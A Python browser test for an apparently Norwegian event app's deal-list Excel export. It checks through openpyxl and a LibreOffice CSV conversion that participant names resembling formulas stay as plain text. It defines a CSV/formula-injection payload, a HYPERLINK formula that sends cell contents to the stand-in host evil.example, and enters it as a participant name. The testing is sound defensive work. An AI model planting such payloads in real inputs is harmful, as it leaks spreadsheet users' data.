"""The organiser's evening ends with a download: the deal list as .xlsx, through the browser.

The workbook is opened twice, as the organiser's own programs would: with openpyxl, and with
LibreOffice converting it headless to CSV (a private profile, so it never touches anyone's
settings). A participant named like a formula must come out as the same text in both.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest
import requests

from tests.support import office
from tests.support.auth import login_page
from tests.support.processes import wait_until

pytestmark = [pytest.mark.browser, pytest.mark.slow]

EVIL = '=HYPERLINK("http://evil.example/?d="&B2;"Klikk her")'


@pytest.fixture(scope="module")
def evening_with_deals(evening, browser):
    """The organiser signs up a hostile name on the participants page; brokers make deals."""
    context = browser.new_context(viewport={"width": 1280, "height": 800})
    page = context.new_page()
    try:
        login_page(page, evening.hub.url)
        page.goto(evening.hub.url + "/participants")
        page.fill("#name", EVIL)
        page.select_option("#sector", "business")
        page.fill("#contact_person", "Mallory")
        page.fill("#email", "mallory@evil.example")
        page.fill("#phone", "+47 400 00 000")
        with page.expect_response(lambda r: r.request.method == "POST") as answer:
            page.get_by_role("button", name="Legg til deltaker").click()
        assert answer.value.status == 201
    finally:
        context.close()

    def find(query: str) -> dict:
        found = evening.kiosk_api(f"/api/participants?q={query}")["participants"]
        return {p["name"]: p["id"] for p in found}

    evil_id = wait_until(lambda: find("hyperlink").get(EVIL))
    people = find("kvernbakken") | find("tårnlia")
    pairs = [
        (people["Kvernbakken Bakeri AS"], people["Tårnlia sykehjem"], "Boller hver fredag"),
        (people["Kvernbakken Idrettslag"], people["Tårnlia Skolekorps"], "Lån av klubbhuset"),
        (evil_id, people["Kvernbakken bibliotek"], "=1+1"),
    ]
    for a, b, gives in pairs:
        saved = requests.post(
            f"{evening.kiosk.url}/api/deals",
            json={
                "parties": [
                    {"participant_id": a, "gives": gives},
                    {"participant_id": b, "gives": "Takk"},
                ],
                "category": "equipment",
                "kind": "mutual",
                "deadline": "2027-02-01",
                "broker": "Kari",
            },
            timeout=5,
        )
        assert saved.status_code == 201
    wait_until(lambda: evening.kiosk_api("/api/status")["pending"] == 0)
    return evening


def download_workbook(page, evening, folder: Path) -> Path:
    login_page(page, evening.hub.url)
    page.goto(evening.hub.url + "/")
    with page.expect_download() as download:
        page.get_by_role("link", name="Last ned Excel (.xlsx)").click()
    target = folder / download.value.suggested_filename
    download.value.save_as(target)
    return target


def test_the_xlsx_download_opens_in_openpyxl_with_every_deal(evening_with_deals, page, tmp_path):
    evening = evening_with_deals
    workbook_path = download_workbook(page, evening, tmp_path)
    assert workbook_path.name.startswith("avtaler-") and workbook_path.suffix == ".xlsx"

    sheet = openpyxl.load_workbook(workbook_path).active
    rows = list(sheet.iter_rows(values_only=True))
    header, body = rows[0], rows[1:]
    assert header[:5] == ("Nr.", "Status", "Part A", "Uanmeldt A", "Sektor A")
    assert "E-post A" in header and "Telefon B" in header and "Børsmegler" in header
    hub_deals = evening.hub_api("/api/deals")["deals"]
    assert len(body) == len(hub_deals) >= 3
    records = [dict(zip(header, row, strict=True)) for row in body]
    bakery = next(r for r in records if r["Part A"] == "Kvernbakken Bakeri AS")
    assert bakery["Part B"] == "Tårnlia sykehjem" and bakery["A gir"] == "Boller hver fredag"
    assert bakery["Sektor A"] == "Næringsliv" and bakery["Kategori"] == "Utstyr"
    assert bakery["E-post A"] and "@" in bakery["E-post A"]  # contact details, opened on the hub
    hostile = next(r for r in records if r["Part A"] == EVIL)
    assert hostile["E-post A"] == "mallory@evil.example"
    assert hostile["Telefon A"] == "+47 400 00 000" and hostile["A gir"] == "=1+1"
    for row in sheet.iter_rows(min_row=2):
        assert all(cell.data_type != "f" for cell in row)


@pytest.mark.skipif(office.SOFFICE is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_opens_the_download_and_keeps_formulas_as_text(
    evening_with_deals, page, tmp_path
):
    evening = evening_with_deals
    workbook_path = download_workbook(page, evening, tmp_path)
    converted = office.to_csv(workbook_path, tmp_path / "converted")[workbook_path.stem + ".csv"]

    rows = list(csv.reader(io.StringIO(converted.read_text(encoding="utf-8"))))
    header, body = rows[0], rows[1:]
    assert header[:3] == ["Nr.", "Status", "Part A"]
    assert len(body) == len(evening.hub_api("/api/deals")["deals"])
    records = [dict(zip(header, row, strict=True)) for row in body]
    hostile = next(r for r in records if r["E-post A"] == "mallory@evil.example")
    # Had LibreOffice taken these for formulas, it would show "Klikk her" and "2".
    assert hostile["Part A"] == EVIL
    assert hostile["A gir"] == "=1+1"
    bakery = next(r for r in records if r["Part A"] == "Kvernbakken Bakeri AS")
    assert (
        bakery["Part B"] == "Tårnlia sykehjem" and bakery["Tidsfrist"] == "01.02.2027"
    )  # a date, shown as one
